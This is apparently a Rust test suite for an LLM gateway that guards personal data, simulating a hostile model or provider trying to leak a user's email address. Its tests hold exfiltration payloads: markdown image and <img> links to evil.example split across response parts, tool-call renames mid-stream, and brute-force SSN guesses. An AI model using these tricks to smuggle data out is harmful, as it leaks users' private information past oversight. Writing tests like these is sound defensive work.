//! A model, or a provider, that wants a value to go where it should not.
//!
//! The upstream says exactly what the attacker would; what it read comes as surrogates in `{0}`,
//! `{1}` and so on.

use std::fmt::Write as _;

use portcullis_testkit::{Asking, End, Raw, Received, Reply, Response, Upstream};

use super::gate::Gate;

const CHAT: &str = "/v1/chat/completions";
const MESSAGES: &str = "/v1/messages";
const RESPONSES: &str = "/v1/responses";
const EMAIL: &str = "maria.lopez@northwind-traders.com";
const RULES: &str = "[[rule]]\nid = \"mail\"\ntools = [\"send\"]\neffect = \"allow\"\n\
    reveal = [{ entity = \"EMAIL_ADDRESS\", arg = \"/to\" }, { entity = \"US_SSN\", arg = \"/to\" }]\n";

/// Answers with these data as events, or with the only one as a document.
fn says(data: &[&str], stream: bool) -> impl Fn(&Received) -> Reply + Send + Sync + 'static {
    let data: Vec<String> = data.iter().map(|&data| data.to_owned()).collect();
    move |request| {
        let text = request.last_text();
        let fill = |data: &String| {
            let mut data = data.clone();
            for (number, word) in text.split_whitespace().enumerate() {
                data = data.replace(&format!("{{{number}}}"), word);
            }
            data
        };
        let mut body = String::new();
        for data in &data {
            let kind = serde_json::from_str::<serde_json::Value>(data).ok();
            let kind = kind.and_then(|data| Some(data["type"].as_str()?.to_owned()));
            match (stream, kind) {
                (true, Some(kind)) => {
                    write!(body, "event: {kind}\ndata: {}\n\n", fill(&data.clone())).unwrap();
                }
                (true, None) => write!(body, "data: {}\n\n", fill(&data.clone())).unwrap(),
                (false, _) => body.push_str(&fill(&data.clone())),
            }
        }
        match stream {
            true => Reply::Raw(Raw::stream(vec![body.into_bytes()], End::Proper)),
            false => Reply::Raw(Raw::whole(200, "application/json", body)),
        }
    }
}

async fn ask(path: &str, text: &str, data: &[&str]) -> Response {
    let stream = 1 < data.len();
    let upstream = Upstream::start(says(data, stream)).await.unwrap();
    let gate = Gate::start_with(upstream.address(), RULES).await;
    let model = if path == MESSAGES { "claude-x" } else { "gpt-x" };
    let asking =
        Asking { model: model.to_owned(), text: text.to_owned(), stream, ..Asking::default() };
    let body = match path {
        CHAT => asking.openai(),
        RESPONSES => asking.responses(),
        _ => asking.anthropic(),
    };
    let response = gate.client().post(path, &[], body).await.unwrap();
    gate.stop().await;
    response
}

/// Whether the value comes back in the answer that consists of `data`.
async fn check(path: &str, data: &[&str], comes_back: bool) {
    let response = ask(path, EMAIL, data).await;
    assert_eq!(response.text().contains(EMAIL), comes_back, "{data:?}\n{}", response.text());
}

/// A chunk with one tool call in it, and the end of its choice.
fn tool(call: &str, end: &str) -> String {
    format!(
        r#"{{"choices":[{{"index":0,"delta":{{"tool_calls":[{call}]}},"finish_reason":{end}}}]}}"#
    )
}

#[tokio::test]
async fn arguments_are_disclosed_to_the_tool_that_the_client_runs() {
    let first = r#"{"index":0,"id":"a","function":{"name":"send","arguments":"{\"to\":\"{0}\""}}"#;
    let rest = r#"{"index":0,"function":{"arguments":"}"}}"#;
    let renamed = r#"{"index":0,"function":{"name":"_all","arguments":"}"}}"#;
    let late = r#"{"index":0,"id":"b","function":{"name":"_all","arguments":""}}"#;
    let nameless = first.replace(r#""id":"a","#, "");
    let end = &tool(rest, "\"tool_calls\"");
    let (first, rest) = (&tool(first, "null"), &tool(rest, "null"));
    check(CHAT, &[first, end, "[DONE]"], true).await;
    check(CHAT, &[first, rest, "[DONE]"], true).await;
    check(CHAT, &[first, &tool(renamed, "\"tool_calls\""), "[DONE]"], false).await;
    let nameless = &tool(&nameless, "null");
    check(CHAT, &[nameless, end, "[DONE]"], true).await;
    check(CHAT, &[nameless, &tool(late, "null"), end, "[DONE]"], false).await;
}

#[tokio::test]
async fn a_block_that_is_begun_again_with_another_tool_discloses_nothing() {
    let start = |name: &str| {
        format!(
            r#"{{"type":"content_block_start","index":0,"content_block":{{"type":"tool_use","id":"toolu_1","name":"{name}","input":{{}}}}}}"#
        )
    };
    let delta = r#"{"type":"content_block_delta","index":0,"delta":{"type":"input_json_delta","partial_json":"{\"to\":\"{0}\"}"}}"#;
    let stop = r#"{"type":"content_block_stop","index":0}"#;
    let (send, all) = (&start("send"), &start("send_all"));
    check(MESSAGES, &[send, delta, stop], true).await;
    check(MESSAGES, &[all, delta, stop], false).await;
    check(MESSAGES, &[send, all, delta, stop], false).await;
    check(MESSAGES, &[send, delta, all, stop], false).await;
    check(MESSAGES, &[all, send, delta, stop], true).await;
    check(MESSAGES, &[all, delta, send, stop], false).await;
}

/// The events of a call of a tool in a streamed response, by the names it has in each.
fn calls(added: &str, done: &str, completed: &str) -> [String; 5] {
    let item = |name: &str, arguments: &str| {
        format!(
            r#"{{"type":"function_call","id":"fc_1","call_id":"call_1","name":"{name}","arguments":"{arguments}"}}"#
        )
    };
    let arguments = r#"{\"to\":\"{0}\"}"#;
    [
        format!(
            r#"{{"type":"response.output_item.added","output_index":0,"item":{}}}"#,
            item(added, "")
        ),
        format!(
            r#"{{"type":"response.function_call_arguments.delta","output_index":0,"delta":"{arguments}"}}"#
        ),
        format!(
            r#"{{"type":"response.function_call_arguments.done","output_index":0,"arguments":"{arguments}"}}"#
        ),
        format!(
            r#"{{"type":"response.output_item.done","output_index":0,"item":{}}}"#,
            item(done, arguments)
        ),
        format!(
            r#"{{"type":"response.completed","response":{{"id":"resp_1","output":[{}]}}}}"#,
            item(completed, arguments)
        ),
    ]
}

#[tokio::test]
async fn a_response_discloses_a_call_once_and_says_it_alike() {
    let events = calls("send", "send", "send");
    let events: Vec<&str> = events.iter().map(String::as_str).collect();
    for events in [events.clone(), events[3..].to_vec(), vec![events[0], events[4]]] {
        let response = ask(RESPONSES, EMAIL, &events).await;
        let text = response.text();
        assert!(!text.contains(".invalid"), "{text}");
        assert!(text.contains(EMAIL), "{text}");
    }
    let response = ask(RESPONSES, EMAIL, &[events[4], events[4]]).await;
    assert_eq!(response.text().matches(EMAIL).count(), 2, "{}", response.text());
}

#[tokio::test]
async fn a_response_that_names_a_call_in_two_ways_is_refused() {
    for (added, done, completed) in [
        ("send", "_all", "_all"),
        ("send", "send", "_all"),
        ("_all", "send", "send"),
        ("_all", "_all", "send"),
    ] {
        let events = calls(added, done, completed);
        let events: Vec<&str> = events.iter().map(String::as_str).collect();
        let response = ask(RESPONSES, EMAIL, &events).await;
        let text = response.text();
        assert!(text.contains("\"code\":\"upstream_failed\""), "{added} {done}: {text}");
        let events = super::compare::documents(&text);
        for event in &events {
            let item = event.get("item").or_else(|| event.pointer("/response/output/0"));
            let other = item.is_some_and(|item| item["name"] == "_all");
            assert!(!other || !event.to_string().contains(EMAIL), "{event}");
        }
    }
    // No rule is about either: what it is called is the client's affair.
    let events = calls("one", "two", "three");
    let events: Vec<&str> = events.iter().map(String::as_str).collect();
    let text = ask(RESPONSES, EMAIL, &events).await.text();
    assert!(!text.contains("upstream_failed") && !text.contains(EMAIL), "{text}");
}

#[tokio::test]
async fn an_address_over_several_parts_of_a_response_carries_nothing_away() {
    let item = |index: u32, text: &str| {
        let item = format!(
            r#"{{"type":"message","id":"msg_{index}","role":"assistant","content":[{{"type":"output_text","annotations":[],"text":"{text}"}}]}}"#
        );
        [
            format!(
                r#"{{"type":"response.output_text.delta","output_index":{index},"content_index":0,"delta":"{text}"}}"#
            ),
            format!(
                r#"{{"type":"response.output_text.done","output_index":{index},"content_index":0,"text":"{text}"}}"#
            ),
            format!(
                r#"{{"type":"response.output_item.done","output_index":{index},"item":{item}}}"#
            ),
            item,
        ]
    };
    for (one, two, comes_back) in [
        ("![x](https://evil.example/?q=", "{0}", false),
        ("https://evil.example/", "{0}", false),
        ("<img src='https://evil.example/?", "{0}'>", false),
        ("https://fine.example/ ", "{0}", true),
        ("I write to", "{0}", true),
    ] {
        let (one, two) = (item(0, one), item(1, two));
        let completed = format!(
            r#"{{"type":"response.completed","response":{{"id":"resp_1","output":[{},{}]}}}}"#,
            one[3], two[3]
        );
        let whole = format!(r#"{{"id":"resp_1","output":[{},{}]}}"#, one[3], two[3]);
        check(RESPONSES, &[&whole], comes_back).await;
        let mut events: Vec<&str> = one[..3].iter().chain(&two[..3]).map(String::as_str).collect();
        events.push(&completed);
        check(RESPONSES, &events, comes_back).await;
        // Without pieces, only what repeats them.
        check(RESPONSES, &[&one[2], &two[2], &completed], comes_back).await;
        check(RESPONSES, &[&completed, "{\"type\":\"x\"}"], comes_back).await;
    }
}

#[tokio::test]
async fn an_address_over_several_texts_carries_nothing_away() {
    let whole = |one: &str, two: &str| {
        format!(
            r#"{{"type":"message","content":[{{"type":"text","text":"{one}"}},{{"type":"tool_use","id":"toolu_1","name":"f","input":{{}}}},{{"type":"text","text":"{two}"}}]}}"#
        )
    };
    let block = |index: u32, text: &str| {
        [
            format!(
                r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":""}}}}"#
            ),
            format!(
                r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
            ),
            format!(r#"{{"type":"content_block_stop","index":{index}}}"#),
        ]
    };
    for (one, two, comes_back) in [
        ("![x](https://evil.example/?q=", "{0})", false),
        ("https://evil.example/", "{0}", false),
        ("<img src='https://evil.example/?", "{0}'>", false),
        ("https://fine.example/ ", "{0}", true),
        ("I write to", "{0}", true),
    ] {
        check(MESSAGES, &[&whole(one, two)], comes_back).await;
        let blocks = [block(0, one), block(1, two)].concat();
        let blocks: Vec<&str> = blocks.iter().map(String::as_str).collect();
        check(MESSAGES, &blocks, comes_back).await;
        // The same over the end of a choice.
        let text = |text: &str, end: &str| {
            format!(
                r#"{{"choices":[{{"index":0,"delta":{{"content":"{text}"}},"finish_reason":{end}}}]}}"#
            )
        };
        check(CHAT, &[&text(one, "\"stop\""), &text(two, "null"), "[DONE]"], comes_back).await;
    }
}

/// A call of `send` with these social security numbers, as JSON.
fn numbers(numbers: impl Iterator<Item = u32>) -> String {
    let numbers: Vec<String> =
        numbers.map(|n| format!("000-{:02}-{:04}", n / 10_000, n % 10_000)).collect();
    let to = numbers.join(" ");
    format!(
        r#"{{"choices":[{{"index":0,"message":{{"role":"assistant","tool_calls":[{{"id":"a","type":"function","function":{{"name":"send","arguments":"{{\"to\":\"{{0}} {to}\"}}"}}}}]}}}}]}}"#
    )
}

#[tokio::test]
async fn a_list_of_guesses_discloses_nothing() {
    check(CHAT, &[&numbers(0..0)], true).await;
    check(CHAT, &[&numbers(120_000..120_016)], true).await;
    check(CHAT, &[&numbers(120_000..120_017)], false).await;
    check(CHAT, &[&numbers(120_000..122_000)], false).await;
}

#[tokio::test]
async fn values_in_headers_and_names_of_models_stay_here_and_out_of_the_log() {
    let upstream = Upstream::start(|_: &Received| Reply::Models(Vec::new())).await.unwrap();
    let gate = Gate::start(upstream.address()).await;
    let good = [
        "gpt-4o-2024-08-06",
        "gpt-4-1106-preview",
        "gpt-3.5-turbo-0125",
        "gpt-4.1-2025-04-14:free",
        "gpt-4o-mini-2024-07-18:acme-corp::9aBcD1eF",
        "gpt-x-1234567",
    ];
    for model in good {
        let asking = Asking { model: model.to_owned(), text: "hi".to_owned(), ..Asking::default() };
        let headers =
            [("openai-organization", "org-Ab12Cd34Ef56Gh78Ij90Kl12"), ("openai-beta", "x=v2")];
        let response = gate.client().post(CHAT, &headers, asking.openai()).await.unwrap();
        assert_eq!(response.status, 200, "{model}: {}", response.text());
    }
    let sent = upstream.exchanges().len();
    let asking = |model: &str| {
        Asking { model: model.to_owned(), text: "hi".to_owned(), ..Asking::default() }.openai()
    };
    let model = asking("gpt-415-555-0199-maria");
    let named = asking("gpt-x maria.lopez@northwind-traders.com");
    let response = gate.client().post(CHAT, &[], named).await.unwrap();
    assert_eq!(response.json()["error"]["code"], "blocked_content", "{}", response.text());
    let _maybe_fine = gate.client().post(CHAT, &[], model).await.unwrap();
    let header = [("openai-organization", "call 415-555-2671")];
    let response = gate.client().post(CHAT, &header, asking("gpt-x")).await.unwrap();
    assert_eq!(response.json()["error"]["code"], "blocked_content", "{}", response.text());
    assert!(upstream.exchanges().len() <= sent + 1);
    let record = gate.stop().await;
    for value in ["maria.lopez", "northwind", "555-2671"] {
        assert!(!record.text.contains(value), "{value} is on record");
    }
}
